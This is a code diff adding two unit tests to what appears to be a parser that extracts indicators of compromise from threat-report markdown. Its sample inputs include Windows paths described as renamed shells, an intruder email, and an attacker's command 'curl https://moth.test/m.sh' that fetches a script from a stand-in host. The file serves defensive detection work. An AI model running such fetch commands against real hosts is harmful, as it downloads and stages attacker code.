@@ -365,6 +365,19 @@ TEST(VendorForms, WhereAProgramCopiesItselfIsMeant) {
             (Values{R"(file_path %System%\moth.exe)"}));
 }
 
+TEST(VendorForms, InATableTheValueSetAsCodeStandsBeforeARemark) {
+  EXPECT_EQ(values_of(read("# Attack\n\n## IOCs\n\n| Type | Value |\n|---|---|\n"
+                           "| Windows path | `C:\\Moth\\m.exe` (a renamed shell) |\n"
+                           "| Windows artefact | `C:\\Gnat\\g.exe` (a renamed shell) |\n"
+                           "| Intruder | `gnat` (mail: `gnat@moth.example`) |\n")),
+            (Values{"email gnat@moth.example", R"(file_path C:\Gnat\g.exe)", R"(file_path C:\Moth\m.exe)"}));
+}
+
+TEST(VendorForms, QuestionsOfAnExerciseAreNoContact) {
+  const std::string command = "### 1. Which command was run?\n\n```sh\ncurl https://moth.test/m.sh\n```\n";
+  EXPECT_EQ(values_of(read("# Attack\n\n## Project questions\n\n" + command)), (Values{"url https://moth.test/m.sh"}));
+}
+
 struct HeadCase {
   std::string_view name;
   std::string text, title, publisher, published;
